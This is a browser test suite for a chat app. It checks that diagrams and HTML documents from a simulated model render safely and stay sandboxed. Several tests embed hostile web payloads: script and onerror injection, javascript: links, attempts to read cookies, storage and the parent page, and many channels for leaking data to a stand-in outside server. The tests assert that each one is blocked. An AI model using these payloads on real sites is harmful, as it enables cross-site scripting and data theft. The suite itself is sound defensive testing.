/** Diagrams, and what opens beside an answer, in a real browser; with a model that means well and with one that means harm. */
import { createServer, type Server } from 'node:http';
import { createSocket, type Socket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { bootTestKernel, OPEN_RATE, stopTestKernels, type TestKernel } from '@svc/testing';
import { expect } from 'chai';
import { chromium as engine, type Frame, type Page } from 'playwright-core';
import { type HeldServer, startHeldServer } from '@svc/fixtures/providers/held-server';
import { expectWellMade, LAUNCH, picture, useBrowser } from '@svc/test/page/browser';

const fenced = (info: string, text: string): string => `\`\`\`${info}\n${text}\n\`\`\`\n`;
const FLOW = 'flowchart LR\n  accTitle: How tea is made\n  A[Boil water] --> B{Hot?}\n  B -->|yes| C[Pour]\n  B -->|no| A';
const HOSTILE_FLOW = (to: string): string =>
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "@import url(${to}/css);"}}%%\nflowchart LR\n  A["<img src=${to}/img onerror=top.harmed=1><script>top.harmed=1</script>"] --> B["<a href='${to}/a'>x</a>"]\n  click A "javascript:top.harmed=1" _top\n  click B href "${to}/click" _blank\n  classDef own fill:#fff,stroke-width:1px;\n  class A own`;
const PAGE = (body: string): string => `<!doctype html>\n<html>\n<head><title>Tea timer</title></head>\n<body>${body}</body>\n</html>`;

describe('what an answer brings', function () {
  this.timeout(90_000);
  const chromium = useBrowser();
  let model: HeldServer;
  let kernel: TestKernel;
  let agentId: string;
  let page: Page;
  let mistakes: readonly string[];
  let outside: Server;
  let datagrams: Socket;
  let received: string[];
  let agents = 0;

  before(async () => {
    model = await startHeldServer();
    kernel = await bootTestKernel({ config: `${OPEN_RATE}${model.config}`, env: model.env });
    outside = createServer((request, response) => {
      received.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end('ok');
    });
    outside.on('connection', () => received.push('a connection'));
    datagrams = createSocket('udp4').on('message', () => received.push('a datagram'));
    await Promise.all([new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve)), new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve))]);
  });
  after(async () => {
    await stopTestKernels();
    await model?.close();
    outside.closeAllConnections();
    await new Promise((resolve) => outside.close(resolve));
    await new Promise<void>((resolve) => datagrams.close(resolve));
  });
  beforeEach(async () => {
    received = [];
    agentId = (await kernel.http.expect(201, 'POST', '/api/agents', { manifest: { name: `maker ${++agents}` } })).body.agent_id;
  });
  afterEach(async () => {
    await kernel.http.expect(200, 'DELETE', `/api/agents/${agentId}`);
    model.reset();
  });

  const elsewhere = (): string => `http://127.0.0.1:${(outside.address() as AddressInfo).port}`; // it listens on a port
  const visit = async (): Promise<void> => {
    ({ page, mistakes } = await chromium.open(`${kernel.url}/#/chat/${agentId}`));
  };
  const say = async (text: string): Promise<void> => {
    const composer = page.getByRole('textbox', { name: /^Message to/ });
    await composer.fill(text);
    await composer.press('Enter');
  };
  const answered = async (text: string): Promise<void> => {
    const before = await page.locator('.answered .figures').count();
    await say('go on');
    (await model.asked()).answer({ text });
    await page.locator('.answered .figures').nth(before).waitFor();
  };
  const beside = () => page.getByRole('complementary', { name: 'Opened block' });
  const openLast = () => page.getByRole('button', { name: 'Open beside the conversation' }).last().click();
  /** The document that a model wrote, within the sandbox document. */
  const previewed = async (): Promise<Frame> => {
    const outer = await (await page.locator('iframe.artifact-preview').elementHandle())?.contentFrame();
    const inner = await (await outer?.waitForSelector('iframe'))?.contentFrame();
    if (!inner) throw new Error('there is no preview');
    return inner;
  };

  it('draws a diagram once its block is whole, in the colours of the page, and shows its code', async () => {
    await visit();
    const asked: string[] = [];
    page.on('request', (request) => asked.push(new URL(request.url()).pathname));
    await say('draw it');
    (await model.asked()).answer({ deltas: ['```mermaid\n', FLOW, '\n```\n\nThat is how.'], eventDelayMs: 700 });
    await page.locator('.code-block').getByText('Boil water').waitFor();
    expect(asked, 'the library before there is a diagram').not.to.include('/ui/diagrams.js');
    const drawn = page.getByRole('img', { name: 'Diagram: How tea is made' });
    await drawn.waitFor();
    const widthOf = () => drawn.evaluate((image) => (image instanceof HTMLImageElement ? image.naturalWidth : 0));
    expect(await widthOf()).to.be.greaterThan(200);
    const light = await drawn.getAttribute('src');
    expect(decodeURIComponent(light ?? ''))
      .to.contain('>Boil<')
      .and.not.contain('foreignObject');
    expect(mistakes).to.deep.equal([]);
    await expectWellMade(page, 'a diagram');
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.waitForFunction((before) => document.querySelector('.diagram img')?.getAttribute('src') !== before, light);
    await picture(page, 'a diagram in the dark');
    await page.emulateMedia({ colorScheme: null });
    await page.getByRole('group', { name: 'View' }).getByRole('button', { name: 'Code' }).click();
    await page.locator('.code-block pre').getByText('Boil water').waitFor();
    expect(asked.filter((path) => path === '/ui/diagrams.js')).to.have.length(1);
  });

  it('says in one line that a diagram cannot be drawn, shows its code, and draws the next one', async () => {
    await visit();
    const huge = `flowchart LR\n${Array.from({ length: 400 }, (_, at) => `a${at} --> a${at + 1}`).join('\n')}`;
    await answered([fenced('mermaid', 'flowchart LR\n  A -->'), fenced('mermaid', huge), fenced('mermaid', `pie\n${'"x" : 1\n'.repeat(4_000)}`), fenced('mermaid', FLOW)].join('\n\n'));
    await page.getByRole('img', { name: 'Diagram: How tea is made' }).waitFor();
    expect(await page.getByText('This diagram can’t be drawn.', { exact: false }).count()).to.equal(3);
    expect(await page.locator('.code-block pre').count()).to.equal(3);
    expect(mistakes).to.deep.equal([]);
  });

  it('gives up a diagram that never ends, and draws the next one in another frame', async () => {
    await visit();
    const hangs = "addEventListener('message', ({ ports: [port] }) => port?.postMessage('ready'));";
    await page.route('**/ui/diagrams.js', async (route) => route.fulfill({ response: await route.fetch(), body: hangs }), { times: 1 });
    await answered(`${fenced('mermaid', 'pie\n"a" : 1')}\n${fenced('mermaid', FLOW)}`);
    await page.locator('iframe.diagram-drawer').waitFor({ state: 'attached' });
    const since = performance.now();
    await page.getByText('This diagram can’t be drawn.', { exact: false }).waitFor();
    expect(performance.now() - since).to.be.above(5_000);
    await page.getByRole('img', { name: 'Diagram: How tea is made' }).waitFor();
    expect(await page.locator('iframe.diagram-drawer').count()).to.equal(1);
  });

  it('draws a hostile diagram as a picture in which nothing runs, loads or leads anywhere', async () => {
    await visit();
    await answered(fenced('mermaid', HOSTILE_FLOW(elsewhere())));
    await page.locator('.diagram img').waitFor();
    const source = decodeURIComponent((await page.locator('.diagram img').getAttribute('src')) ?? '');
    expect(source).to.not.match(/<script|onerror|javascript:|@import|foreignObject/i);
    expect(await page.locator('.diagram a, .diagram svg, .diagram script').count()).to.equal(0);
    await page.locator('.diagram img').click();
    expect(page.context().pages()).to.have.length(1);
    expect(await page.evaluate(() => 'harmed' in window)).to.equal(false);
    expect(received).to.deep.equal([]);
  });

  it('opens a document beside the conversation, runs it there, and gives the focus back', async () => {
    await visit();
    await answered(fenced('html', PAGE('<h1>Tea</h1><script>document.querySelector("h1").textContent += " for " + (1 + 1)</script>')));
    await openLast();
    await (await previewed()).getByText('Tea for 2').waitFor();
    expect(await page.evaluate(() => document.activeElement?.textContent)).to.equal('Tea timer');
    // Axe writes to frames, which have no origin that it could name.
    expect(mistakes).to.deep.equal([]);
    await expectWellMade(page, 'a document beside the conversation', { isWhole: true });
    const saved = page.waitForEvent('download');
    await beside().getByRole('button', { name: 'Download' }).click();
    expect((await saved).suggestedFilename()).to.equal('Tea-timer.html');
    await beside().getByRole('button', { name: 'Code' }).click();
    await beside().locator('.hljs-tag').first().waitFor();
    await page.keyboard.press('Escape');
    await beside().waitFor({ state: 'detached' });
    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).to.equal('Open beside the conversation');
  });

  it('follows links within the document, and closes on Escape in it as well', async () => {
    await visit();
    await answered(fenced('html', PAGE(`<a href="#end">To the end</a> <a href="${elsewhere()}/link">Away</a><p style="height: 3000px">long</p><button id="end">Start</button>`)));
    await openLast();
    const preview = await previewed();
    await preview.getByText('Away').click();
    await preview.getByText('To the end').click();
    await preview.waitForFunction(() => scrollY > 1_000);
    await preview.getByRole('button', { name: 'Start' }).press('Escape');
    await beside().waitFor({ state: 'detached' });
  });

  it('lies over the conversation on a phone, which waits behind it, and leads back', async () => {
    await visit();
    await page.setViewportSize({ width: 390, height: 800 });
    await answered(fenced('svg', '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><title>Dot</title><circle cx="50" cy="50" r="40"/></svg>'));
    await openLast();
    await (await previewed()).locator('circle').waitFor();
    expect(await page.locator('.beside-main').getAttribute('inert')).to.not.equal(null);
    expect((await beside().boundingBox())?.width).to.equal(390);
    await picture(page, 'a picture on a phone');
    await beside().getByRole('button', { name: 'Back' }).click();
    await page.getByRole('textbox', { name: /^Message to/ }).fill('again');
  });

  it('shows the versions of one document, and other code by itself', async () => {
    await visit();
    await answered(`${fenced('html', PAGE('one'))}\n${fenced('js', 'x\n'.repeat(20))}`);
    await answered(fenced('html', PAGE('two')));
    await openLast();
    await (await previewed()).getByText('two').waitFor();
    await beside().getByRole('button', { name: 'Previous version' }).click();
    await (await previewed()).getByText('one').waitFor();
    expect(await beside().getByRole('status', { name: 'Version 1 of 2' }).innerText()).to.equal('1/2');
    await page.getByRole('button', { name: 'Open beside the conversation' }).nth(1).click();
    await beside().getByRole('heading', { name: 'JS' }).waitFor();
    expect(await beside().getByRole('button', { name: 'Previous version' }).count()).to.equal(0);
  });

  it('follows an answer that is written, and shows the document when it is whole', async () => {
    await visit();
    await say('write it');
    const lines = Array.from({ length: 60 }, (_, at) => `<p>line ${at}</p>\n`);
    (await model.asked()).answer({ deltas: ['```html\n<!doctype html>\n<title>Long</title>\n', lines.slice(0, 30).join(''), lines.slice(30).join(''), '```\n'], eventDelayMs: 1_200 });
    await page.getByRole('button', { name: 'Open beside the conversation' }).click();
    await beside().getByText('Writing …').waitFor();
    await beside().locator('pre').getByText('line 59').waitFor();
    expect(
      await beside()
        .locator('.artifact-code')
        .evaluate(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight),
    ).to.be.below(60);
    await (await previewed()).getByText('line 59').waitFor();
    await page.locator('.answered .figures').waitFor();
    await beside().getByRole('heading', { name: 'Long' }).waitFor();
  });

  it('lets a document reach nothing of the page, keep nothing, open nothing and go nowhere', async () => {
    await visit();
    await answered(
      fenced(
        'html',
        PAGE(`<a id="link" target="_blank" href="${elsewhere()}/link">x</a><a id="top" target="_top" href="${elsewhere()}/top">x</a><pre id="seen"></pre><script>
          const attempt = async (fn) => { try { return 'did: ' + String(await fn()); } catch (error) { return 'refused: ' + error.name; } };
          (async () => {
            const seen = {};
            seen.top = await attempt(() => top.document.title);
            seen.parent = await attempt(() => parent.document.title);
            seen.leave = await attempt(() => { top.location.href = '${elsewhere()}/leave'; });
            seen.cookie = await attempt(() => document.cookie);
            seen.storage = await attempt(() => localStorage.length);
            seen.popup = await attempt(() => { if (open('${elsewhere()}/popup') === null) throw new DOMException('', 'Blocked'); });
            seen.api = await attempt(() => fetch('${kernel.url}/api/agents'));
            seen.origin = self.origin;
            document.getElementById('link').click();
            document.getElementById('top').click();
            for (const to of [top, parent]) to.postMessage({ text: 'x' }, '*');
            document.getElementById('seen').textContent = JSON.stringify(seen);
          })();
        </script>`),
      ),
    );
    const asked: string[] = [];
    page.on('request', (request) => request.frame() !== page.mainFrame() && asked.push(request.url()));
    await openLast();
    const preview = await previewed();
    await preview.locator('#seen:not(:empty)').waitFor();
    expect(JSON.parse(await preview.locator('#seen').innerText())).to.deep.equal({
      top: 'refused: SecurityError',
      parent: 'refused: SecurityError',
      leave: 'refused: SecurityError',
      cookie: 'refused: SecurityError',
      storage: 'refused: SecurityError',
      popup: 'refused: Blocked',
      api: 'refused: TypeError',
      origin: 'null',
    });
    // Not to this daemon either, whose answers it could not read. Elsewhere: the refresh of the next document.
    await preview.evaluate((href) => location.assign(href), `${kernel.url}/api/agents`).catch(() => undefined); // it ends what asked for it
    await page.waitForTimeout(300);
    expect(page.context().pages()).to.have.length(1);
    expect(page.url()).to.contain(`#/chat/${agentId}`);
    expect(asked.filter((url) => url !== 'about:srcdoc')).to.deep.equal([`${kernel.url}/ui/sandbox.html`]);
    expect(received).to.deep.equal([]);
  });

  it('lets a document tell nobody anything, by whatever it loads, sends, frames or connects to', async () => {
    await visit();
    const to = elsewhere();
    const udp = datagrams.address().port;
    const rtc = `const line = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); line.createDataChannel('x'); line.createOffer().then((offer) => line.setLocalDescription(offer));`;
    await answered(
      fenced(
        'html',
        `<!doctype html>\n<meta http-equiv="refresh" content="2;url=${to}/refresh"><link rel="preconnect" href="${to}"><link rel="prefetch" href="${to}/prefetch"><link rel="stylesheet" href="${to}/css"><link rel="icon" href="${to}/icon"><base href="${to}">
<style>@import "${to}/import"; body { background: url(${to}/background) } @font-face { font-family: x; src: url(${to}/font) }</style>
<p style="font-family: x">text</p><img src="${to}/img"><iframe src="${to}/iframe"></iframe><iframe src="javascript:fetch('${to}/js')"></iframe><object data="${to}/object"></object><embed src="${to}/embed"><video src="${to}/video" poster="${to}/poster"></video>
<script src="${to}/script"></script><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to}/speculation"]}]}</script>
<form id="form" action="${to}/form" method="post"></form><a id="ping" ping="${to}/ping" href="#x">x</a><a id="file" download href="${to}/download">x</a>
<script>
  const quietly = (fn) => { try { fn(); } catch {} };
  quietly(() => fetch('${to}/fetch').catch(() => undefined));
  quietly(() => navigator.sendBeacon('${to}/beacon', 'x'));
  quietly(() => new WebSocket('${to.replace('http', 'ws')}/socket'));
  quietly(() => new EventSource('${to}/events'));
  quietly(() => new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker')"]))));
  quietly(() => import('${to}/module').catch(() => undefined));
  for (const id of ['form', 'ping', 'file']) quietly(() => document.getElementById(id)[id === 'form' ? 'submit' : 'click']());
  quietly(() => { ${rtc} });
  document.body.dataset.done = 'yes';
</script>`,
      ),
    );
    await openLast();
    await (await previewed()).locator('[data-done]').waitFor();
    await page.waitForTimeout(3_000);
    expect(received).to.deep.equal([]);
    expect(page.url()).to.contain(`#/chat/${agentId}`);
  });

  it('ends what looks for WebRTC in a frame of its own before it sends anything', async () => {
    // Chromium ends the process of a document that breaks its list of connections: it is not the one of the other tests.
    chromium.browser();
    const own = await engine.launch(LAUNCH);
    try {
      page = await own.newPage();
      await page.goto(`${kernel.url}/#/chat/${agentId}`);
      const rtc = `const line = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${datagrams.address().port}' }] }); line.createDataChannel('x'); line.createOffer().then((offer) => line.setLocalDescription(offer));`;
      await answered(fenced('html', PAGE(`<iframe srcdoc="<script>${rtc}</script>"></iframe>`)));
      const ended = page.waitForEvent('crash');
      await openLast();
      await ended;
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      expect(received).to.deep.equal([]);
    } finally {
      await own.close();
    }
  });
});
